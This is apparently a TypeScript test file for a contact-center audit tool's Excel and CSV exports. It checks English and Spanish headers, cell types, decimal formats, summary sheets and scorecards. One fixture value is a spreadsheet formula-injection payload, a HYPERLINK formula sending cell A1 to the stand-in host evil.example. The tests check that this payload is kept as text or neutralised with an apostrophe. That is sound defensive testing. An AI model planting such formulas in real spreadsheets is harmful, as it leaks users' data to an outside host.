/**
 * A friendly export reads as the screen does, in the reader's language: the workbook read back with exceljs
 * (cell types, number formats, sheet names, headers in the chosen order) and the CSV read back with csv-parse.
 */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { exportAuditWorkbook } from '../../src-main/core/reports/audit-workbook';
import { exportInteractions } from '../../src-main/core/reports/export-interactions';
import { INSIGHTS_SHEETS, INSIGHTS_SHEETS_ES } from '../../src-main/core/reports/insights-sheet';
import { openSqliteStore } from '../../src-main/core/store/sqlite/sqlite-store';
import { FRIENDLY_HEADERS, type ApiField } from '../../src-main/core/wolkvox/fields';
import { address, cell, readWorkbook, sheetArrays, sheetRecords, tempDir } from './export-helpers';
import { fixtureCache } from './export-fixture';

/** The grid's visible columns in the grid's order (date first, some hidden). */
const GRID: ApiField[] = ['date_creation', 'channel', 'status', 'agent_name', 'body', 'answer', 'evaluation_survey', 'cod_act', 'cod_description'];

const WORDS = {
  en: {
    sheets: ['Interactions', 'Summary', ...Object.values(INSIGHTS_SHEETS), 'Scorecard'],
    review: ['Review status', 'Greeting and identification', 'Understanding of the need', 'Resolution', 'Tone and courtesy', 'Correct typification', 'Response time', 'Overall score', 'Review note', 'Tags', 'Reviewer', 'Review time', 'Result overridden', 'Override reason', 'Scorecard', 'Scorecard version'],
    closed: 'Closed', open: 'Open', pass: 'Pass', fail: 'Fail', inReview: 'In review', unreviewed: 'Unreviewed', yes: 'Yes', email: 'Email',
    summary: ['By', 'Value', 'Interactions', 'Reviewed', 'Passed', 'Failed', 'Pass rate (%)', 'Average score', 'Survey answers', 'Average survey evaluation'],
    channel: 'Channel', status: 'Status', image: 'image',
  },
  es: {
    sheets: ['Interacciones', 'Resumen', ...Object.values(INSIGHTS_SHEETS_ES), 'Ficha'],
    review: ['Estado de revisión', 'Greeting and identification', 'Understanding of the need', 'Resolution', 'Tone and courtesy', 'Correct typification', 'Response time', 'Puntaje total', 'Nota de revisión', 'Etiquetas', 'Revisor', 'Hora de revisión', 'Resultado modificado', 'Motivo de la modificación', 'Ficha', 'Versión de la ficha'],
    closed: 'Cerrada', open: 'Abierta', pass: 'Aprobada', fail: 'Reprobada', inReview: 'En revisión', unreviewed: 'Sin revisar', yes: 'Sí', email: 'Correo',
    summary: ['Por', 'Valor', 'Interacciones', 'Revisadas', 'Aprobadas', 'Reprobadas', 'Aprobación (%)', 'Puntaje promedio', 'Encuestas respondidas', 'Promedio de encuesta'],
    channel: 'Canal', status: 'Estado', image: 'imagen',
  },
} as const;

for (const language of ['en', 'es'] as const) {
  const w = WORDS[language];
  test(`friendly workbook (${language}): names, the grid's columns in order, bodies as text, numbers as numbers, two-decimal averages`, async (t) => {
    const { db, path } = fixtureCache();
    t.after(() => db.close());
    const store = await openSqliteStore({ dbPath: path, access: 'read', readers: 'on-demand' });
    t.after(() => store.close());
    const out = join(tempDir(t), 'friendly.xlsx');
    const result = await exportAuditWorkbook(store, { filter: {}, format: 'xlsx', headers: 'friendly', language, columns: GRID, outPath: out, zone: 'America/Bogota' });
    assert.deepEqual(result.sheets, w.sheets);
    const book = await readWorkbook(out);
    assert.deepEqual(book.sheetNames, w.sheets);
    for (const name of book.sheetNames) assert.ok(name.length <= 31, `${name}: within Excel's 31 characters`);

    const sheet = book.sheet(w.sheets[0]);
    const header = sheetArrays(sheet)[0];
    assert.deepEqual(header, [...GRID.map((f) => FRIENDLY_HEADERS[language][f]), ...w.review], 'visible columns in the grid order, then the review columns');
    const rows = sheetRecords(sheet);
    const byAgentAndChannel = (channel: string) => rows.find((r) => r[FRIENDLY_HEADERS[language].channel] === channel)!;
    const h = FRIENDLY_HEADERS[language];
    const email = byAgentAndChannel(w.email);
    // The body's visible words, as the conversation's plain view shows them; no markup, no style sheet.
    assert.equal(email[h.body], `Hola equipo,\nMi pedido 123 no llegó.\nCaso\tA&B\n[${w.image}]`);
    assert.equal(email[h.answer], 'Con gusto.\nSaludos — Ana');
    assert.equal(email[h.status], w.closed);
    assert.equal(email[w.review[0]], w.pass);
    assert.equal(email[w.review[1]], w.yes);
    const facebook = byAgentAndChannel('Facebook');
    assert.equal(facebook[h.status], w.open);
    assert.equal(facebook[w.review[0]], w.fail);
    assert.equal(facebook[h.body], 'x;=HYPERLINK("http://evil.example/?x="&A1,"click")', 'plain text stays exactly as it is, and a text cell');
    assert.equal(byAgentAndChannel('WhatsApp')[w.review[0]], w.inReview);
    assert.equal(byAgentAndChannel('Instagram')[w.review[0]], w.unreviewed);
    assert.equal(byAgentAndChannel('WhatsApp')[h.body], 'Precio 3 < 5 y 7 > 2', 'a "<" in plain text is not HTML');
    for (const r of rows) for (const f of [h.body, h.answer]) assert.doesNotMatch(String(r[f] ?? ''), /<(html|style|div|p|br)\b/i);

    // Cell types: the survey is a number, dates are dates, codes keep their zeros as text.
    const at = (row: number, title: string) => cell(sheet, address(row, header.indexOf(title) + 1));
    for (let row = 2; row <= 5; row++) {
      assert.ok(at(row, h.date_creation)?.v instanceof Date, 'a real date');
      const survey = at(row, h.evaluation_survey);
      if (survey) assert.equal(survey.t, 'n', `row ${row}: the survey is a number cell`);
      assert.deepEqual([at(row, h.cod_act)?.t, typeof at(row, h.cod_act)?.v], ['s', 'string']);
    }
    assert.deepEqual(rows.map((r) => r[h.evaluation_survey]), [4, 3, undefined, 5], 'newest first, numbers');
    assert.deepEqual(rows.map((r) => r[h.cod_act]), ['0040', '0012', '0012', '0012']);

    // Summary in the export's language, channels and statuses by name, averages shown with two decimals.
    const summary = book.sheet(w.sheets[1]);
    assert.deepEqual(sheetArrays(summary)[0], w.summary);
    const lines = sheetRecords(summary);
    assert.ok(lines.some((l) => l[w.summary[0]] === w.channel && l[w.summary[1]] === 'Facebook'));
    assert.ok(lines.some((l) => l[w.summary[0]] === w.status && l[w.summary[1]] === w.closed));
    assert.ok(!lines.some((l) => l[w.summary[1]] === 'facebook_page' || l[w.summary[1]] === 'close'), 'no raw API word');
    for (const column of ['G', 'H', 'J']) assert.equal(summary.getCell(`${column}3`).numFmt, '0.00', `${column}: two decimals`);
    assert.equal(summary.getCell('C3').numFmt, '0', 'counts stay whole numbers');

    // One row per typification code: 0012 came with two descriptions.
    const typifications = sheetArrays(book.sheet(w.sheets[5]!)).slice(1);
    assert.deepEqual(typifications, [['0012', 'Reclamo', 3, 1, 2], ['0040', 'Consulta', 1, 1, 0]]);
    // Insights figures (averages, rates, minutes) are shown with two decimals too.
    const agents = book.sheet(w.sheets[4]!);
    const agentHeader = sheetArrays(agents)[0]!;
    const evaluation = agentHeader.findIndex((x) => /survey evaluation|Promedio de encuesta/.test(String(x)));
    assert.equal(agents.getCell(address(2, evaluation + 1)).numFmt, '0.00');

    const scorecard = sheetRecords(book.sheet(w.sheets.at(-1)!));
    assert.equal(scorecard.length, 6);
    assert.equal(Object.keys(scorecard[0]!).length, 11, 'nine columns, then N/A allowed and Help');
    if (language === 'es') assert.ok(scorecard.some((s) => s['Crítico'] === 'Sí' && s['En la hoja Interacciones'] === 'Texto: Sí o No'));
    else assert.ok(scorecard.some((s) => s.Critical === 'Yes' && s['In the Interactions sheet'] === 'Text: Yes or No'));
  });
}

test('friendly CSV with a semicolon: readable bodies, names, numbers, every hostile field read back exactly', async (t) => {
  const { db, path } = fixtureCache();
  t.after(() => db.close());
  const store = await openSqliteStore({ dbPath: path, access: 'read', readers: 'on-demand' });
  t.after(() => store.close());
  const out = join(tempDir(t), 'friendly.csv');
  await exportInteractions(store, { filter: {}, format: 'csv', headers: 'friendly', language: 'es', separator: ';', columns: ['case_id', 'channel', 'subject', 'body', 'answer', 'evaluation_survey', 'status'], outPath: out, zone: 'America/Bogota' });
  const text = readFileSync(out, 'utf8');
  assert.ok(text.startsWith('\uFEFFCaso;Canal;Asunto;Mensaje;Respuesta;Evaluación de encuesta;Estado\r\n'));
  const rows = parse(text, { bom: true, delimiter: ';', columns: true }) as Array<Record<string, string>>;
  const byCase = new Map(rows.map((r) => [r.Caso, r]));
  assert.deepEqual(byCase.get('K-1'), { Caso: 'K-1', Canal: 'Correo', Asunto: 'Pedido', Mensaje: 'Hola equipo,\nMi pedido 123 no llegó.\nCaso\tA&B\n[imagen]', Respuesta: 'Con gusto.\nSaludos — Ana', 'Evaluación de encuesta': '5', Estado: 'Cerrada' });
  // The one change to a value: an apostrophe before what a spreadsheet could take for a formula, in any piece.
  assert.equal(byCase.get('K-2')!.Mensaje, `x;'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
  assert.equal(byCase.get('K-2')!.Respuesta, `'-1, then +2; @me`);
  assert.equal(byCase.get('K-3')!.Asunto, 'a, b; c\td', 'separators inside a field: quoted, kept');
  assert.match(text, /;"a, b; c\td";/);
});
